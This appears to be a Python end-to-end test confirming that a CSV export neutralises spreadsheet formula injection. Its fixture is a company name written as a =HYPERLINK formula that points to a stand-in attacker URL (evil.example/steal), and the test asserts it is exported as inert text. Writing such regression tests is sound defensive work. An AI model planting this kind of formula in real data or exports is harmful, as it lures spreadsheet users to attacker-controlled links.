"""Finding 2.3 of issue 16: a company named =HYPERLINK(...) became a live formula in the
managers' Insikt export. Over HTTP against the real processes: the hostile name is
submitted, decided, exported, and the export holds it as text."""

from __future__ import annotations

import csv
import io
import uuid

import pytest
import requests

from tests.e2e.conftest import case_by_reference, post_inquiry, wait_for

pytestmark = pytest.mark.e2e

HOSTILE_COMPANY = '=HYPERLINK("https://evil.example/steal","Klicka här")'


def test_a_formula_in_a_company_name_is_exported_as_text(stack, tokens):
    intake, desk = stack.url("intake"), stack.url("business_desk")
    email = f"excel-{uuid.uuid4().hex[:8]}@example.se"
    submitted = post_inquiry(intake, company=HOSTILE_COMPANY, contact_name="Eva Excel", email=email)
    handler = tokens.header("case_handler", "business_desk")
    reference = submitted["reference"]
    case = wait_for(lambda: case_by_reference(stack, reference, handler), 20, "the case")
    url = f"{desk}/api/v1/cases/{case['id']}"
    assert requests.post(f"{url}/claim", headers=handler, timeout=10).status_code == 200
    decided = requests.post(
        f"{url}/decision", json={"outcome": "granted", "answer": "Beviljas."}, headers=handler, timeout=10
    )
    assert decided.status_code == 200, decided.text

    def exported_row() -> list[str] | None:
        response = requests.get(
            f"{desk}/api/v1/exports/insikt.csv", headers=tokens.header("manager", "business_desk"), timeout=10
        )
        assert response.status_code == 200
        rows = csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline=""), delimiter=";")
        return next((row for row in rows if reference in row), None)

    row = wait_for(exported_row, 20, "the decided case in the export")
    company = row[3]
    assert company == "'" + HOSTILE_COMPANY  # shown as the text it is, not evaluated
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
